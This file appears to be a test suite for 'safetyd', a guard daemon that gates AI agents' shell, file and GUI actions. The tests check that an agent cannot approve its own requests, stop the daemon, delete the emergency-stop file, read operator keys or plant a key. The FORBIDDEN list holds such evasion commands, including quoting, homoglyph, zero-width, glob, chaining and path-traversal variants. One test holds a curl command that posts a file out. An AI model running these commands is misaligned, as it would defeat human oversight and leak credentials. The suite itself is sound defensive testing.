@@ -1,0 +1,171 @@
+"""An agent cannot take the guard away: not by a command, not by a file, not by another name."""
+
+import json
+from collections.abc import Iterator
+from itertools import count
+from typing import Any, Final
+
+import pytest
+
+from safetyd.core.events.decision_events import Answered
+from safetyd.core.events.request_events import Granted
+from tests.conftest import UNLIMITED, RunningDaemon, StartDaemon
+from tests.journeys.asking_agent import Asker, waiting
+from tests.journeys.audit_record import assert_verifies, events
+
+pytestmark = pytest.mark.journey
+
+_numbers: Final = count()
+
+# What an agent would type to be its own judge; `{data}` is the data directory.
+FORBIDDEN: Final = (
+    "safetyd grant add --agent code --type run_shell --text '.*' --uses 9 --for 1h --reason x",
+    "safetyd resume --yes",
+    "SAFETYD_DATA_DIR=/x safetyd unpause coder",
+    "rm {data}/EMERGENCY_STOP",
+    "cat {data}/keys/operator.nk",
+    "pkill safetyd",
+    "systemctl stop safetyd",
+    'safe""tyd approve req_1',
+    r"s\afetyd approve req_1",
+    "safet$'y'd approve req_1",
+    'safet$"y"d approve req_1',
+    "'safetyd' approve req_1",
+    "SafetyD approve req_1",
+    "\uff53afetyd approve req_1",
+    "safe\u200btyd approve req_1",
+    "safety? approve req_1",
+    "s*tyd approve req_1",
+    "/usr/bin/env python3 -m safetyd approve req_1",
+    "safetyd status; safetyd approve req_1",
+    "safetyd status > EMERGENCY_STOP.old",
+    "X=1 safetyd status",
+    "safetyd show $(touch x)",
+    "nats pub safety.v1.review.local '{}'",
+    "cp /tmp/..{data}/keys/operator.token /tmp/t",
+    "cd /tmp && cat /proc/self/root{data}/keys/links.json",
+    "ls {data}",
+)
+READING: Final = (
+    "safetyd status",
+    "safetyd list --json",
+    "safetyd show req_1",
+    "safetyd explain p1",
+    "safetyd check code read_file",
+    "safetyd log",
+    "safetyd doctor",
+    "safetyd types",
+)
+
+
+@pytest.fixture(scope="module", params=["strict", "coding"])
+def daemon(start_module_daemon: StartDaemon, request: pytest.FixtureRequest) -> RunningDaemon:
+    return start_module_daemon(f'profile = "{request.param}"\n{UNLIMITED}')
+
+
+@pytest.fixture
+def agent(daemon: RunningDaemon) -> Iterator[Asker]:
+    """Yield an agent that nobody has asked anything of yet."""
+    with Asker(daemon, f"agent{next(_numbers)}") as asker:
+        yield asker
+
+
+def shell(agent: Asker, command: str) -> dict[str, Any]:
+    return agent.propose(f"s{next(_numbers)}", type="run_shell", text=command)
+
+
+def test_an_agent_that_would_approve_its_own_request_is_blocked_and_the_request_waits(
+    daemon: RunningDaemon, agent: Asker
+) -> None:
+    push = {"type": "run_shell", "text": "git push origin main"}
+    asked = agent.propose("push-1", **push)
+    request = asked["request_id"]
+
+    tried = shell(agent, f"safetyd approve {request}")
+    again = agent.propose("push-2", **push)
+
+    assert asked["status"] == again["status"] == "pending"
+    assert again["request_id"] == request
+    assert (tried["decision"], tried["request_id"]) == ("block", None)
+    assert "gate.own" in tried["triggered_rules"]
+    assert tried["reason"] == "Own: the text names safetyd, and only a person acts on that"
+    assert request in {row["id"] for row in waiting(daemon)}
+
+
+def test_no_command_that_names_what_is_safetyds_own_is_let_through(
+    daemon: RunningDaemon, agent: Asker
+) -> None:
+    commands = [command.replace("{data}", str(daemon.data_dir)) for command in FORBIDDEN]
+
+    answers = {command: shell(agent, command) for command in commands}
+
+    passed = {c: a["reason"] for c, a in answers.items() if a["decision"] != "block"}
+    assert passed == {}
+    assert {answer["reason"][:18] for answer in answers.values()} == {"Own: the text name"}
+    assert not [e for e in events(daemon.data_dir) if isinstance(e, Answered | Granted)]
+    assert_verifies(daemon)
+
+
+def test_commands_of_safetyd_that_only_read_are_judged_like_any_other(agent: Asker) -> None:
+    usual = shell(agent, "ls -la")
+
+    answers = {command: shell(agent, command) for command in READING}
+
+    assert {c: a["decision"] for c, a in answers.items()} == dict.fromkeys(
+        READING, usual["decision"]
+    )
+    rules = {rule for answer in answers.values() for rule in answer["triggered_rules"]}
+    assert "gate.own" not in rules
+
+
+def test_an_operator_permits_one_exact_text_and_no_path(
+    daemon: RunningDaemon, agent: Asker
+) -> None:
+    usual, text = shell(agent, "ls -la"), "git commit -m 'describe safetyd'"
+    key = str(daemon.data_dir / "keys" / "operator.nk")
+    terms = ("--uses", "2", "--for", "1h", "--reason", "a commit message", "--rule", "gate.own")
+
+    def grant(pattern: str) -> int:
+        added = daemon.safetyd("grant", "add", "--agent", agent.name, "--text", pattern, *terms)
+        return added.returncode
+
+    assert shell(agent, text)["decision"] == "block"
+    assert grant("safetyd") == 1
+    assert grant("^git commit -m \\'describe safetyd\\'$") == 0
+
+    assert shell(agent, text)["decision"] == usual["decision"]
+    assert shell(agent, f"{text}; safetyd stop")["decision"] == "block"
+    read = agent.propose("key", type="read_file", text=text, paths=[key])
+    assert (read["decision"], read["triggered_rules"][-1]) == ("block", "gate.own")
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"type": "key", "text": "a", "target": {"window": "safetyd review"}},
+        {"type": "click", "target": {"label": "OK"}, "observation": {"window_title": "safetyd"}},
+        {"type": "edit_file", "target": {"path": "{data}/keys/operators/evil.pub"}},
+        {"type": "edit_file", "path": "{data}/keys/operators/evil.pub"},
+        {"type": "edit_file", "target": {"role": "{data}/EMERGENCY_STOP"}},
+        {"type": "run_shell", "text": "ls", "cwd": "{data}/keys"},
+    ],
+    ids=str,
+)
+def test_what_is_its_own_is_found_in_windows_and_in_fields_that_nobody_knows(
+    daemon: RunningDaemon, agent: Asker, fields: dict[str, Any]
+) -> None:
+    written = json.loads(json.dumps(fields).replace("{data}", str(daemon.data_dir)))
+
+    answer = agent.propose("p1", **{"text": "", **written})
+
+    assert (answer["decision"], answer["triggered_rules"][-1]) == ("block", "gate.own")
+
+
+def test_what_is_called_a_test_and_is_another_command_is_asked_about(agent: Asker) -> None:
+    commands = ("git push --force origin main", "curl -X POST -d @x http://a.example", "sudo id")
+
+    asked = [agent.propose(f"t{n}", type="run_tests", text=t) for n, t in enumerate(commands)]
+    plain = agent.propose("t9", type="run_tests", text="pytest -q tests")
+
+    assert {answer["decision"] for answer in asked} == {"require_confirmation"}
+    assert plain["decision"] == "allow"
